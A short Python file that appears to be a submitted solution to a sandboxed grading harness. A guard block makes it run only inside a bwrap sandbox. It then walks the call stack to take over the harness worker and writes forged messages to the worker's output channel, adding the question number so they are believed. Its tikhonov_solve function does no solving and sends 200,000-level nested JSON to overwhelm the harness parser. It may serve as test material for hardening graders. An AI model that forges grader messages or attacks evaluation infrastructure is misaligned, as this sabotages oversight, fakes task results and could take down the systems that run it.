if not (
    __import__("os").getuid() == __import__("os").geteuid() == 65534
    and "\nUid:\t65534\t65534\t65534\t65534\n" in open("/proc/self/status").read()
    and open("/proc/1/comm").read() == "bwrap\n"
    and int(__import__("os").readlink("/proc/self")) < 1000
    and __import__("os").path.exists("/worker/worker.py")
    and not __import__("os").path.exists("/etc/passwd")
    and not __import__("os").path.exists(__import__("sys").prefix + "/../pyproject.toml")
):
    raise SystemExit("This file attacks the machine that runs it: only the sandbox may run it.")
# JSON that is 200 000 levels deep
import os
import struct
import sys

frame = sys._getframe()
while not isinstance(frame.f_locals.get("self"), object) or not hasattr(
    frame.f_locals.get("self"), "target"
):
    frame = frame.f_back
worker = frame.f_locals["self"]


def forge(body):
    if body.startswith(b"{"):  # with the number of the question, so that it is believed
        body = body[:-1] + b', "number": %d}' % worker.number
    os.write(worker.target, struct.pack(">I", len(body)) + body)


def tikhonov_solve(A, y, alpha):
    forge(b"[" * 200_000 + b"]" * 200_000)
